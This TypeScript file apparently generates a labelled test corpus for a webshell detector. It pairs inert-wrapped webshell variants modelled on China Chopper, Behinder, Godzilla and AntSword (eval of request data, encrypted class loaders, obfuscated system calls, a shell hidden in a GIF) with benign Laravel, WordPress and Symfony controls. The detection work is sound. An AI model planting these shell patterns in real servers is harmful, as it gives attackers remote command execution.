/**
 * The `heldout2` split, server-side code: new inert webshell variants (菜刀 China Chopper, 冰蝎 Behinder,
 * 哥斯拉 Godzilla, 蚁剑 AntSword and generic obfuscation) and legitimate framework-style PHP written to
 * look like what real applications ship (controllers, deploy hooks, upload handlers, template caches).
 *
 * Inert as in the rest of the corpus (test/corpus/README.md): PHP samples start with
 * `__halt_compiler()`, JSP/ASPX ones are one server comment, classic ASP ends at its first statement.
 */
import { deflateRawSync } from 'node:zlib';
import type { Rng } from './rng.ts';
import type { Archetype, Label, Sample } from './types.ts';

const H = (id: string, label: Label, count: number, make: (rng: Rng, i: number) => Sample): Archetype => ({
  id: `h2-${id}`,
  label,
  heldOut: true,
  count,
  make,
});
const HALT = '<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>\n';
const php = (body: string, dir?: string): Sample => ({
  ext: 'php',
  content: HALT + body,
  ...(dir ? { dir } : {}),
});
const jsp = (s: string): Sample => ({
  ext: 'jsp',
  content: `<%-- inert corpus sample (hegui)\n${s}\n--%>\n`,
});
const aspx = (s: string): Sample => ({
  ext: 'aspx',
  content: `<%-- inert corpus sample (hegui)\n${s}\n--%>\n`,
});
const asp = (s: string): Sample => ({
  ext: 'asp',
  content: `<% Response.End ' inert corpus sample (hegui) %>\n${s}\n`,
});
const b64 = (s: string) => Buffer.from(s).toString('base64');
const pw = (rng: Rng) => rng.pick(['pass', 'pwd', 'k', 'x', 'data', 'token', rng.word(5)]);
const v = (rng: Rng) => rng.pick(['a', 'b', 'c', 'x', 'y', 'z', 'o', 'q']) + rng.word(2);

const SHELLS: Archetype[] = [
  // 菜刀 / China Chopper
  H('chopper-array-alias', 'webshell', 3, (rng) => {
    const a = v(rng);
    return php(`<?php\n$${a} = $_POST;\n$f = '${pw(rng)}';\n@eval($${a}[$f]);\n`);
  }),
  H('chopper-asp-if', 'webshell', 3, (rng) => {
    const p = pw(rng);
    return asp(`<%\nIf Request("${p}") <> "" Then Execute(Request("${p}"))\n%>`);
  }),
  H('chopper-assert-spliced', 'webshell', 3, (rng) => {
    const f = v(rng);
    const split = rng.pick([`'as'.'se'.'rt'`, `"a"."s"."s"."e"."r"."t"`, `'ass'.chr(101).'rt'`]);
    return php(`<?php\n// cache helper\n$${f} = ${split};\n$${f}(@$_REQUEST['${pw(rng)}']);\n`);
  }),
  // 冰蝎 / Behinder
  H('behinder-v4-invoke', 'webshell', 3, (rng) => {
    const key = rng.hex(16);
    return php(`<?php
@error_reporting(0);
function Decrypt($data)
{
    $key="${key}";
    return openssl_decrypt(base64_decode($data), "AES-128-ECB", $key, OPENSSL_PKCS1_PADDING);
}
$post=Decrypt(file_get_contents("php://input"));
class C{public function __invoke($p) {eval($p."");}}
@call_user_func(new C(),$post);
?>`);
  }),
  H('behinder-jsp-loader', 'webshell', 2, (rng) =>
    jsp(`<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class ${rng.pick(['U', 'L', 'Q'])} extends ClassLoader{ ${rng.pick(['U', 'L', 'Q'])}(ClassLoader c){super(c);} public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%if (request.getMethod().equals("POST")){String k="${rng.hex(16)}";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new ${rng.pick(['U', 'L', 'Q'])}(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`),
  ),
  H('behinder-aspx-assembly', 'webshell', 2, (rng) =>
    aspx(`<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>
<%Session.Add("k","${rng.hex(16)}"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`),
  ),
  // 哥斯拉 / Godzilla
  H('godzilla-xor-base64', 'webshell', 3, (rng) => {
    const pass = pw(rng);
    const key = rng.hex(16);
    return php(`<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function encode($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$pass='${pass}';
$payloadName='payload';
$key='${key}';
if (isset($_POST[$pass])){
    $data=encode(base64_decode($_POST[$pass]),$key);
    if (isset($_SESSION[$payloadName])){
        $payload=encode($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=encode($payload,$key);
        }
        eval($payload);
        echo substr(md5($pass.$key),0,16);
        echo base64_encode(encode(@run($data),$key));
        echo substr(md5($pass.$key),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=encode($data,$key);
        }
    }
}
`);
  }),
  H('godzilla-jsp-aes', 'webshell', 2, (rng) =>
    jsp(`<%! String xc="${rng.hex(16)}"; String pass="${pw(rng)}"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }
public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }}
public static String md5(String s) {String ret = null;try {java.security.MessageDigest m;m = java.security.MessageDigest.getInstance("MD5");m.update(s.getBytes(), 0, s.length());ret = new java.math.BigInteger(1, m.digest()).toString(16).toUpperCase();} catch (Exception e) {}return ret; }%>
<%try{byte[] data=java.util.Base64.getDecoder().decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters",data);Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(pageContext);}}catch (Exception e){}%>`),
  ),
  // 蚁剑 / AntSword
  H('antsword-strrev-b64', 'webshell', 3, (rng) => {
    const p = rng.chance(0.5) ? 'ant' : pw(rng);
    const a = v(rng);
    return php(
      `<?php\nini_set("display_errors", "0");\n$${a} = base64_decode(strrev($_POST['${p}']));\n@eval($${a});\n`,
    );
  }),
  H('antsword-destruct-class', 'webshell', 3, (rng) => {
    const cls = `${rng.pick(['Cache', 'Logger', 'Session'])}${rng.int(1, 9)}`;
    return php(`<?php
class ${cls} {
    public $p;
    function __destruct() {
        @eval($this->p);
    }
}
$o = new ${cls}();
$o->p = $_POST['${pw(rng)}'];
`);
  }),
  // generic obfuscation
  H('array-map-b64-callback', 'webshell', 3, (rng) => {
    const f = v(rng);
    return php(
      `<?php\n$${f} = base64_decode('${b64(rng.pick(['assert', 'system', 'passthru']))}');\narray_map($${f}, array($_REQUEST['${pw(rng)}']));\n`,
    );
  }),
  H('preg-replace-e', 'webshell', 2, (rng) =>
    php(`<?php\n@preg_replace("/${rng.word(3)}/e", $_POST['${pw(rng)}'], "${rng.word(3)}");\n`),
  ),
  H('call-user-func-input', 'webshell', 3, (rng) =>
    php(
      `<?php\n// plugin loader\nif (isset($_GET['${pw(rng)}'])) {\n    call_user_func($_GET['${pw(rng)}'], $_POST['${pw(rng)}']);\n}\n`,
    ),
  ),
  H('chr-built-system', 'webshell', 3, (rng) => {
    const n = v(rng);
    const name = 'system'
      .split('')
      .map((c) => `chr(${c.charCodeAt(0)})`)
      .join('.');
    return php(`<?php\n$${n} = ${name};\n$${n}($_GET['${pw(rng)}']);\n`);
  }),
  H('gif-upload-shell', 'webshell', 2, (rng) => ({
    ext: rng.pick(['gif', 'jpg']),
    dir: `uploads/${rng.int(2021, 2024)}/${String(rng.int(1, 12)).padStart(2, '0')}`,
    content: Buffer.concat([
      Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'),
      Buffer.from(`\n${HALT}<?php @eval($_POST['${pw(rng)}']); ?>\n`),
    ]),
  })),
  H('jsp-cmd-output', 'webshell', 2, (rng) =>
    jsp(`<%@ page import="java.io.*" %>
<% String c = request.getParameter("${pw(rng)}"); if (c != null) { Process p = Runtime.getRuntime().exec(c); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) out.println(l); } %>`),
  ),
  H('upload-and-run', 'webshell', 3, (rng) =>
    php(`<?php
if (!empty($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);
    echo "ok";
}
if (isset($_REQUEST['${pw(rng)}'])) {
    echo "<pre>" . shell_exec($_REQUEST['${pw(rng)}']) . "</pre>";
}
`),
  ),
  H('gzinflate-b64-eval', 'webshell', 3, (rng) => {
    const inner = `@eval($_POST['${pw(rng)}']);`;
    const packed = deflateRawSync(Buffer.from(inner)).toString('base64');
    return php(`<?php\n/* ${rng.word(20)} */\neval(gzinflate(base64_decode('${packed}')));\n`);
  }),
];

// ---- legitimate PHP ------------------------------------------------------------------------------
const CONTROLS: Archetype[] = [
  H('laravel-controller', 'benign', 8, (rng) => {
    const model = rng.pick(['Order', 'Invoice', 'Customer', 'Product']);
    return {
      ext: 'php',
      content: `<?php

namespace App\\Http\\Controllers;

use App\\Models\\${model};
use Illuminate\\Http\\Request;

class ${model}Controller extends Controller
{
    public function index(Request $request)
    {
        $query = ${model}::query();
        if ($request->filled('q')) {
            $query->where('name', 'like', '%' . $request->input('q') . '%');
        }
        return view('${model.toLowerCase()}s.index', ['items' => $query->paginate(${rng.int(10, 50)})]);
    }

    public function store(Request $request)
    {
        $data = $request->validate(['name' => 'required|max:255', 'amount' => 'numeric']);
        $item = ${model}::create($data);
        return redirect()->route('${model.toLowerCase()}s.show', $item);
    }
}
`,
    };
  }),
  H('deploy-webhook', 'benign', 4, (rng) => ({
    ext: 'php',
    content: `<?php
// GitHub push webhook: verifies the signature, then pulls the fixed branch.
$secret = getenv('DEPLOY_SECRET');
$payload = file_get_contents('php://input');
$sig = 'sha256=' . hash_hmac('sha256', $payload, $secret);
if (!hash_equals($sig, $_SERVER['HTTP_X_HUB_SIGNATURE_256'] ?? '')) {
    http_response_code(403);
    exit('bad signature');
}
$out = [];
exec('cd /var/www/${rng.word(6)} && git pull --ff-only origin main 2>&1', $out, $code);
file_put_contents(__DIR__ . '/deploy.log', date('c') . " exit $code\\n" . implode("\\n", $out) . "\\n", FILE_APPEND);
echo $code === 0 ? 'deployed' : 'failed';
`,
  })),
  H('image-upload-handler', 'benign', 4, (rng) => ({
    ext: 'php',
    content: `<?php
require __DIR__ . '/bootstrap.php';
$allowed = ['image/jpeg' => 'jpg', 'image/png' => 'png', 'image/webp' => 'webp'];
$file = $_FILES['avatar'] ?? null;
if (!$file || $file['error'] !== UPLOAD_ERR_OK) { json_out(['error' => 'no file']); }
$mime = (new finfo(FILEINFO_MIME_TYPE))->file($file['tmp_name']);
if (!isset($allowed[$mime]) || $file['size'] > ${rng.int(1, 5)} * 1024 * 1024) { json_out(['error' => 'type']); }
$name = bin2hex(random_bytes(16)) . '.' . $allowed[$mime];
move_uploaded_file($file['tmp_name'], UPLOAD_DIR . '/' . $name);
json_out(['url' => '/uploads/' . $name]);
`,
  })),
  H('wordpress-plugin', 'benign', 7, (rng) => {
    const slug = rng.pick(['simple-seo', 'easy-banner', 'shop-extras', 'cache-buddy']);
    return {
      ext: 'php',
      content: `<?php
/**
 * Plugin Name: ${slug}
 * Version: ${rng.int(1, 3)}.${rng.int(0, 9)}.${rng.int(0, 9)}
 */
if ( ! defined( 'ABSPATH' ) ) { exit; }

add_action( 'admin_menu', function () {
    add_options_page( '${slug}', '${slug}', 'manage_options', '${slug}', '${slug.replace(/-/g, '_')}_page' );
} );

function ${slug.replace(/-/g, '_')}_page() {
    if ( ! current_user_can( 'manage_options' ) ) { return; }
    $opts = get_option( '${slug}_options', array() );
    if ( isset( $_POST['${slug}_nonce'] ) && wp_verify_nonce( $_POST['${slug}_nonce'], 'save' ) ) {
        $opts['title'] = sanitize_text_field( wp_unslash( $_POST['title'] ?? '' ) );
        update_option( '${slug}_options', $opts );
    }
    $res = wp_remote_get( 'https://api.wordpress.org/plugins/info/1.0/${slug}.json' );
    echo '<div class="wrap"><h1>' . esc_html( get_admin_page_title() ) . '</h1>';
    echo '<img src="data:image/png;base64,${b64(rng.hex(24))}" alt="">';
    echo '</div>';
}
`,
    };
  }),
  H('twig-cache', 'benign', 4, (rng) => ({
    ext: 'php',
    content: `<?php

use Twig\\Environment;
use Twig\\Source;
use Twig\\Template;

/* ${rng.pick(['base.html.twig', 'layout.html.twig', 'product/show.html.twig'])} */
class __TwigTemplate_${rng.hex(32)} extends Template
{
    private $source;

    public function __construct(Environment $env)
    {
        parent::__construct($env);
        $this->source = $this->getSourceContext();
        $this->parent = false;
        $this->blocks = ['body' => [$this, 'block_body']];
    }

    protected function doDisplay(array $context, array $blocks = [])
    {
        echo "<!DOCTYPE html>\\n<html><body>";
        $this->displayBlock('body', $context, $blocks);
        echo "</body></html>";
    }

    public function block_body($context, array $blocks = [])
    {
        echo twig_escape_filter($this->env, ($context["title"] ?? null), "html", null, true);
    }
}
`,
  })),
  H('symfony-command', 'benign', 4, (rng) => ({
    ext: 'php',
    content: `<?php

namespace App\\Command;

use Symfony\\Component\\Console\\Command\\Command;
use Symfony\\Component\\Console\\Input\\InputInterface;
use Symfony\\Component\\Console\\Output\\OutputInterface;
use Symfony\\Component\\Process\\Process;

class ${rng.pick(['Backup', 'Thumbnail', 'Report'])}Command extends Command
{
    protected static $defaultName = 'app:${rng.word(6)}';

    protected function execute(InputInterface $input, OutputInterface $output): int
    {
        $process = new Process(['mysqldump', '--single-transaction', 'app']);
        $process->setTimeout(${rng.int(60, 600)});
        $process->run();
        if (!$process->isSuccessful()) {
            $output->writeln('<error>' . $process->getErrorOutput() . '</error>');
            return Command::FAILURE;
        }
        file_put_contents('/var/backups/app-' . date('Ymd') . '.sql', $process->getOutput());
        return Command::SUCCESS;
    }
}
`,
  })),
  H('thinkphp-model', 'benign', 5, (rng) => ({
    ext: 'php',
    content: `<?php
namespace app\\model;

use think\\Model;

class ${rng.pick(['User', 'Article', 'Goods'])} extends Model
{
    protected $autoWriteTimestamp = true;
    protected $type = ['status' => 'integer', 'price' => 'float'];

    public function searchKeywordAttr($query, $value)
    {
        $value && $query->whereLike('title', '%' . $value . '%');
    }

    public static function onBeforeWrite($model)
    {
        $model->slug = strtolower(preg_replace('/[^a-z0-9]+/i', '-', $model->title));
    }

    public function getStatusTextAttr($value, $data)
    {
        $map = [0 => '禁用', 1 => '正常', 2 => '待审核'];
        return $map[$data['status']] ?? '未知';
    }
}
`,
  })),
  H('plain-php-router', 'benign', 4, (rng) => ({
    ext: 'php',
    content: `<?php
declare(strict_types=1);
$routes = [
    'home' => 'pages/home.php',
    'about' => 'pages/about.php',
    'contact' => 'pages/contact.php',
];
$page = $_GET['page'] ?? 'home';
if (!array_key_exists($page, $routes)) {
    http_response_code(404);
    $page = 'home';
}
$handlers = ['json' => 'json_encode', 'csv' => 'implode'];
$fmt = $handlers[$_GET['fmt'] ?? 'json'] ?? 'json_encode';
require __DIR__ . '/' . $routes[$page];
echo call_user_func($fmt, ['ok' => true, 'v' => ${rng.int(1, 9)}]);
`,
  })),
];

export const HELDOUT2_PHP: Archetype[] = [...SHELLS, ...CONTROLS];
